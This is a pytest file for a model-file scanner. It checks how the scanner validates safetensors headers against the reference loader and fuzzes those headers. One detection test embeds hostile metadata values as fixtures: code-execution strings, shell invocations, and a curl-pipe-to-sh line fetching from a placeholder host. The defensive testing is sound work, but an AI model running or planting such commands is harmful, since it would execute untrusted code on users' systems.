"""safetensors: the header is validated like the reference loader does, never the data.

The structural checks are compared with the real ``safetensors`` library, run
in a subprocess on the same files: whatever trainguard calls malformed
(TG801), the library must refuse, and whatever the library loads, trainguard
must not call malformed.  Attacks folder of the format:
https://github.com/huggingface/safetensors/tree/main/attacks
"""

from __future__ import annotations

import base64
import json
import pickle
import random
import struct
import subprocess
import sys
import textwrap
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.fuzzing import fuzz_examples
from trainguard import Severity, scan_bytes, scan_file
from trainguard.limits import DEFAULT_LIMITS, Limits
from trainguard.samples.fmt_safetensors import safetensors_bytes
from trainguard.scanner.formats.safetensors import DTYPE_BITS


def _rules(data: bytes, limits: Limits | None = None) -> dict[str, Severity]:
    result = scan_bytes(data, "t.safetensors", limits=limits or DEFAULT_LIMITS)
    assert result.error is None, result.error
    assert result.format == "safetensors", result.format
    return {f.rule: f.severity for f in result.findings}


def _header(obj: object, data: bytes = b"") -> bytes:
    return safetensors_bytes({}, header_text=json.dumps(obj)) + data


def _t(dtype: str, shape: Sequence[float], begin: int, end: int) -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


MALFORMED: dict[str, bytes] = {
    "header-over-cap": struct.pack("<Q", 100_000_001) + b"{" + b" " * 20,
    "header-past-end": struct.pack("<Q", 4096) + b'{"a":1}',
    "not-utf8": struct.pack("<Q", 4) + b'{"\xff}',
    "not-json": struct.pack("<Q", 8) + b'{"a": 1 ',
    "trailing-garbage": struct.pack("<Q", 10) + b'{"a": 1}xy',
    "nan": struct.pack("<Q", 9) + b'{"w":NaN}',
    "unknown-dtype": _header({"w": _t("F128", [1], 0, 16)}, b"\0" * 16),
    "negative-dim": _header({"w": _t("F32", [-1], 0, 4)}, b"\0" * 4),
    "float-dim": _header({"w": _t("F32", [1.0], 0, 4)}, b"\0" * 4),
    "bool-dim": _header({"w": _t("U8", [True], 0, 1)}, b"\0"),
    "reversed-offsets": _header({"w": _t("U8", [0], 4, 0)}, b"\0" * 4),
    "one-offset": _header({"w": {"dtype": "U8", "shape": [1], "data_offsets": [0]}}, b"\0"),
    "missing-dtype": _header({"w": {"shape": [1], "data_offsets": [0, 1]}}, b"\0"),
    "size-mismatch": _header({"w": _t("F32", [3], 0, 8)}, b"\0" * 8),
    "overlap": _header({"a": _t("U8", [4], 0, 4), "b": _t("U8", [4], 2, 6)}, b"\0" * 6),
    "gap": _header({"a": _t("U8", [2], 0, 2), "b": _t("U8", [2], 4, 6)}, b"\0" * 6),
    "file-longer": _header({"a": _t("U8", [2], 0, 2)}, b"\0" * 3),
    "file-shorter": _header({"a": _t("U8", [4], 0, 4)}, b"\0" * 3),
    "subbyte-odd": _header({"a": _t("F4", [3], 0, 2)}, b"\0" * 2),
    "metadata-not-strings": _header({"__metadata__": {"n": 1}}),
    "extra-json": struct.pack("<Q", 3) + b"{}]",
    "entry-not-object": _header({"w": [1, 2]}),
    "huge-shape": _header({"w": _t("F64", [2**62, 2**62], 0, 8)}, b"\0" * 8),
}

VALID: dict[str, bytes] = {
    "empty": _header({}),
    "metadata-only": _header({"__metadata__": {"format": "pt"}}),
    "scalar-and-empty": _header(
        {"s": _t("I64", [], 0, 8), "e": _t("F32", [0, 3], 8, 8), "u": _t("U8", [2], 8, 10)},
        b"\0" * 10,
    ),
    "subbyte": _header({"a": _t("F4", [4], 0, 2), "b": _t("F6_E2M3", [4], 2, 5)}, b"\0" * 5),
    "unordered-keys": _header({"z": _t("U8", [1], 1, 2), "a": _t("U8", [1], 0, 1)}, b"\0\0"),
    "kohya-metadata": _header(
        {
            "__metadata__": {
                "ss_sd_model_hash": "a" * 64,
                "ss_tag_frequency": json.dumps({"img": {"cat": 3, "dog": 2}}),
                "ss_network_module": "networks.lora",
                "modelspec.thumbnail": "data:image/png;base64,"
                + base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4).decode(),
                "description": "LoRA trained with sd-scripts; see train.py and config.toml",
            },
            "w": _t("BF16", [2, 2], 0, 8),
        },
        b"\0" * 8,
    ),
}


@pytest.mark.parametrize("name", list(MALFORMED))
def test_malformed_is_high(name: str) -> None:
    rules = _rules(MALFORMED[name])
    assert rules.get("TG801") == Severity.HIGH, rules


@pytest.mark.parametrize("name", list(VALID))
def test_valid_is_clean(name: str) -> None:
    assert _rules(VALID[name]) == {}


def test_duplicate_key_is_high() -> None:
    text = '{"w":' + json.dumps(_t("U8", [1], 0, 1)) + ',"w":' + json.dumps(_t("U8", [2], 0, 2))
    data = safetensors_bytes({}, header_text=text + "}") + b"\0\0"
    assert _rules(data) == {"TG802": Severity.HIGH}


def test_cap_is_the_limit_setting() -> None:
    data = VALID["metadata-only"]
    assert _rules(data, Limits(max_safetensors_header=16)) == {"TG801": Severity.HIGH}


class _Boom:
    def __reduce__(self) -> tuple[object, ...]:
        return (print, ("never run",))


@pytest.mark.parametrize(
    "value",
    [
        base64.b64encode(pickle.dumps(_Boom(), protocol=2)).decode(),
        base64.urlsafe_b64encode(pickle.dumps(_Boom(), protocol=4)).decode(),
        pickle.dumps(_Boom(), protocol=0).decode("latin-1"),
        "__import__('os').system('id')",
        "import os\nos.system('id')",
        "curl -s https://example.invalid/x.sh | sh",
        "/bin/sh -c 'id'",
        base64.b64encode(b"exec(open('/tmp/x').read())").decode(),
    ],
)
def test_code_like_metadata_is_medium(value: str) -> None:
    data = _header({"__metadata__": {"format": "pt", "note": value}})
    assert _rules(data) == {"TG803": Severity.MEDIUM}


def test_pickles_are_not_sniffed_as_safetensors() -> None:
    for proto in range(6):
        for obj in ({"a": 1}, [1, 2, {"x": b"{"}], "{" * 20):
            result = scan_bytes(pickle.dumps(obj, protocol=proto), "p.pkl")
            assert result.format != "safetensors", (proto, obj)


def test_only_the_header_is_read(tmp_path: Path) -> None:
    """A 64 MiB tensor is not read: the scan reads the header and stops."""
    path = tmp_path / "big.safetensors"
    n = 64 * 1024 * 1024
    with open(path, "wb") as f:
        f.write(_header({"w": _t("U8", [n], 0, n)}))
        f.truncate(f.tell() + n)  # a sparse file: reading it all would still take time
    assert scan_file(path).findings == []


# -- differential check against the real loader ------------------------------------------------

_LOADER = textwrap.dedent(
    """
    import json, sys
    from safetensors import safe_open
    out = {}
    for path in sys.argv[1:]:
        try:
            with safe_open(path, "np") as f:
                f.keys()
            out[path] = True
        except Exception:
            out[path] = False
    print(json.dumps(out))
    """
)


def _random_file(rng: random.Random) -> bytes:
    """Headers that are mostly valid, with one field sometimes broken."""
    tensors: dict[str, object] = {}
    offset = 0
    for i in range(rng.randint(0, 4)):
        dtype = rng.choice([*DTYPE_BITS, "F128", "f32"])
        shape = [rng.randint(0, 5) for _ in range(rng.randint(0, 3))]
        elements = 1
        for d in shape:
            elements *= d
        bits = DTYPE_BITS.get(dtype, 32) * elements
        size = -(-bits // 8)
        begin, end = offset, offset + size
        roll = rng.random()
        if roll < 0.1:
            end += rng.choice([-1, 1])
        elif roll < 0.2:
            begin, end = begin + 1, end + 1
        elif roll < 0.25:
            shape = [-1]
        tensors[f"t{i}"] = _t(dtype, shape, begin, max(end, 0))
        offset = max(end, 0)
    data_len = offset + (rng.choice([-1, 1]) if rng.random() < 0.1 else 0)
    return _header(tensors, b"\0" * max(data_len, 0))


def test_agrees_with_the_safetensors_library(tmp_path: Path) -> None:
    pytest.importorskip("safetensors")
    pytest.importorskip("numpy")
    rng = random.Random(20260)
    files = {f"malformed-{k}": v for k, v in MALFORMED.items()}
    files.update({f"valid-{k}": v for k, v in VALID.items()})
    files.update({f"random-{i}": _random_file(rng) for i in range(300)})
    paths = {}
    for name, data in files.items():
        paths[name] = tmp_path / f"{name}.safetensors"
        paths[name].write_bytes(data)
    proc = subprocess.run(
        [sys.executable, "-c", _LOADER, *map(str, paths.values())],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    loads: dict[str, bool] = json.loads(proc.stdout)
    disagree = []
    for name, path in paths.items():
        ours = "TG801" in {f.rule for f in scan_file(path).findings}
        if ours == loads[str(path)]:
            disagree.append((name, "flagged" if ours else "passed", files[name][8:200]))
    assert not disagree, disagree


# -- fuzz ---------------------------------------------------------------------------------------

_SAMPLE = VALID["kohya-metadata"]


@settings(max_examples=fuzz_examples(300), deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(_SAMPLE) - 1), st.integers(0, 255)), max_size=6))
def test_fuzz_mutated_header(edits: list[tuple[int, int]]) -> None:
    data = bytearray(_SAMPLE)
    for pos, value in edits:
        data[pos] = value
    data[8] = ord("{")  # keep it sniffed as safetensors
    result = scan_bytes(bytes(data), "f.safetensors")
    assert result.error is None, result.error


@settings(max_examples=fuzz_examples(200), deadline=None)
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=8),
        lambda c: st.lists(c, max_size=4) | st.dictionaries(st.text(max_size=6), c, max_size=4),
        max_leaves=30,
    )
)
def test_fuzz_any_json_header(obj: object) -> None:
    text = json.dumps({"x": obj})
    result = scan_bytes(safetensors_bytes({}, header_text=text), "f.safetensors")
    assert result.error is None, result.error
